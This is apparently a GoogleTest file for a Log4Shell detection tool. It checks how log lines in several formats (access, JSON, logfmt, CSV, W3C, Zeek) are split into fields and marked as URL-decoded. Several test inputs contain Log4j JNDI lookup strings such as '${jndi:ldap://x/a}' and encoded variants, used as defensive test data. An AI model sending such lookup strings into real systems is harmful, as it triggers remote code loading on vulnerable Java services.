#include "hunt/log_structure.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace l4s::hunt {
namespace {

const LogMessage* find_field(const std::vector<LogMessage>& ms, std::string_view field) {
  for (const LogMessage& m : ms)
    if (m.field == field) return &m;
  return nullptr;
}

TEST(LogStructureTest, PlainLineIsOneMessage) {
  auto ms = split_log_line("2021-12-10 12:00:00 INFO user ${jndi:ldap://x/a} logged in");
  ASSERT_EQ(ms.size(), 1u);
  EXPECT_EQ(ms[0].field, "");
  EXPECT_EQ(ms[0].text, "2021-12-10 12:00:00 INFO user ${jndi:ldap://x/a} logged in");
  EXPECT_EQ(ms[0].decoded_upstream & kRequestTargetLayers, kNoLayers);
}

TEST(LogStructureTest, AccessLogRequestTargetIsDecodedUpstream) {
  auto ms = split_log_line("1.2.3.4 - - [10/Dec/2021:12:00:00 +0000] \"GET /a?q=%24%7Bx%7D HTTP/1.1\" 200 5 \"-\" \"curl\"");
  const LogMessage* target = find_field(ms, "request_target");
  ASSERT_TRUE(target);
  EXPECT_EQ(target->text, "/a?q=%24%7Bx%7D");
  EXPECT_NE(target->decoded_upstream & layer_bit(Layer::kUrl), 0);
  EXPECT_EQ(ms[0].decoded_upstream & layer_bit(Layer::kUrl), 0);  // the rest of the line is as it came
}

TEST(LogStructureTest, RequestTargets) {
  EXPECT_EQ(find_request_targets("\"POST /x?y=1 HTTP/2.0\""), std::vector<std::string_view>{"/x?y=1"});
  EXPECT_TRUE(find_request_targets("see RFC HTTP/1.1 semantics").empty());
  EXPECT_TRUE(find_request_targets("a getX /y HTTP/1.1").empty());  // "getX" is no method
}

TEST(LogStructureTest, JsonValuesUnescapedMessageFirst) {
  auto ms = split_log_line(R"({"ts":"2021-12-10","ua":"a \"q\" \u0024{x}","message":"m \\u0024"})");
  ASSERT_EQ(ms.size(), 3u);
  EXPECT_EQ(ms[0].field, "message");
  EXPECT_EQ(ms[0].text, "m \\u0024");  // an escaped backslash stays a backslash
  EXPECT_EQ(ms[2].field, "ua");
  EXPECT_EQ(ms[2].text, "a \"q\" ${x}");
}

TEST(LogStructureTest, JsonNestedKeysAndDockerLogs) {
  auto ms = split_log_line(R"({"log":"{\"msg\":\"hi ${x}\"}\n","stream":"stdout","url":{"original":"/?a=%24"}})");
  const LogMessage* inner = find_field(ms, "log.msg");
  ASSERT_TRUE(inner);
  EXPECT_EQ(inner->text, "hi ${x}");
  const LogMessage* url = find_field(ms, "url.original");
  ASSERT_TRUE(url);
  EXPECT_NE(url->decoded_upstream & layer_bit(Layer::kUrl), 0);
}

TEST(LogStructureTest, JsonAfterSyslogHeaderOnly) {
  auto ms = split_log_line(R"(<134>Dec 10 12:00:00 web app: {"msg":"${x}"})");
  ASSERT_TRUE(find_field(ms, "msg"));
  // An application line that logs a JSON body: Log4j saw the body unparsed.
  auto plain = split_log_line(R"(2021-12-10 INFO body: {"msg":"\u0024{x}"})");
  ASSERT_EQ(plain.size(), 1u);
  EXPECT_EQ(plain[0].field, "");
}

TEST(LogStructureTest, JsonSyntaxDoesNotCloseTheValue) {
  auto ms = split_log_line(R"({"msg":"${jndi:ldap://x/a"})");
  ASSERT_EQ(ms.size(), 1u);
  EXPECT_EQ(ms[0].field, "msg");
  EXPECT_EQ(ms[0].text, "${jndi:ldap://x/a");
  auto truncated = split_log_line(R"({"msg":"${jndi:ldap://x/a}", "lev)");
  ASSERT_EQ(truncated.size(), 1u);
  EXPECT_EQ(truncated[0].field, "");
}

// Found by log_structure_fuzz: the JSON parser stops at a NUL, so "{}" then
// NULs then a lookup parsed as an empty object and the lookup was never seen.
TEST(LogStructureTest, JsonWithoutValuesOrWithNulsIsText) {
  std::string line("{}\0\0${jndi:ldap://x/a}", 23);
  auto ms = split_log_line(line);
  ASSERT_EQ(ms.size(), 1u);
  EXPECT_EQ(ms[0].text, line);
  auto empty = split_log_line("{\"a\": 1, \"b\": [true, null]}");
  ASSERT_EQ(empty.size(), 1u);
  EXPECT_EQ(empty[0].field, "");
}

TEST(LogStructureTest, Logfmt) {
  auto ms = split_log_line(R"(ts=2021-12-10T12:00:00Z level=info msg="login \"bob\" ${x" path=/a?q=%24 ua=curl)");
  const LogMessage* msg = find_field(ms, "msg");
  ASSERT_TRUE(msg);
  EXPECT_EQ(msg->text, "login \"bob\" ${x");
  EXPECT_EQ(ms[0].field, "msg");
  const LogMessage* path = find_field(ms, "path");
  ASSERT_TRUE(path);
  EXPECT_NE(path->decoded_upstream & layer_bit(Layer::kUrl), 0);
  // One pair is no logfmt line: "user=bob logged in" is text.
  EXPECT_EQ(split_log_line("user=bob did ${x}").size(), 1u);
  EXPECT_EQ(split_log_line("user=bob did ${x}")[0].field, "");
}

TEST(LogStructureTest, CsvColumns) {
  LogFormatHints hints = sniff_log_format("time,client_ip,uri,user_agent\n2021,1.2.3.4,/,x\n");
  ASSERT_EQ(hints.syntax, LogSyntax::kCsv);
  auto ms = split_log_line(R"(2021,1.2.3.4,/?a=%24%7Bx%7D,"say ""${y}"", ok")", hints);
  const LogMessage* ua = find_field(ms, "user_agent");
  ASSERT_TRUE(ua);
  EXPECT_EQ(ua->text, "say \"${y}\", ok");
  const LogMessage* uri = find_field(ms, "uri");
  ASSERT_TRUE(uri);
  EXPECT_NE(uri->decoded_upstream & layer_bit(Layer::kUrl), 0);
  // A line that does not fit the header is read as text.
  EXPECT_EQ(split_log_line("just ${x} text", hints)[0].field, "");
}

TEST(LogStructureTest, W3cColumns) {
  LogFormatHints hints = sniff_log_format(
      "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
      "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent)\n");
  ASSERT_EQ(hints.syntax, LogSyntax::kW3c);
  auto ms = split_log_line("2021-12-10 12:00:00 10.0.0.1 GET /a q=%24%7Bx%7D 1.2.3.4 Mozilla/5.0+${y}", hints);
  const LogMessage* query = find_field(ms, "cs-uri-query");
  ASSERT_TRUE(query);
  EXPECT_NE(query->decoded_upstream & layer_bit(Layer::kUrl), 0);
  const LogMessage* ua = find_field(ms, "cs(User-Agent)");
  ASSERT_TRUE(ua);
  EXPECT_EQ(ua->decoded_upstream & layer_bit(Layer::kUrl), 0);
  EXPECT_EQ(ua->text, "Mozilla/5.0+${y}");
}

TEST(LogStructureTest, ZeekColumnsUndoOnlyZeekEscapes) {
  LogFormatHints hints = sniff_log_format("#separator \\x09\n#fields\tts\tid.orig_h\turi\tuser_agent\n");
  ASSERT_EQ(hints.syntax, LogSyntax::kZeekTsv);
  auto ms = split_log_line("1639137600.0\t1.2.3.4\t/%24%7Bx%7D\ta\\x09b \\x24{y}", hints);
  const LogMessage* ua = find_field(ms, "user_agent");
  ASSERT_TRUE(ua);
  EXPECT_EQ(ua->text, "a\tb \\x24{y}");  // \x09 was Zeek's; \x24 was the sender's
  const LogMessage* uri = find_field(ms, "uri");
  ASSERT_TRUE(uri);
  EXPECT_NE(uri->decoded_upstream & layer_bit(Layer::kUrl), 0);
}

}  // namespace
}  // namespace l4s::hunt
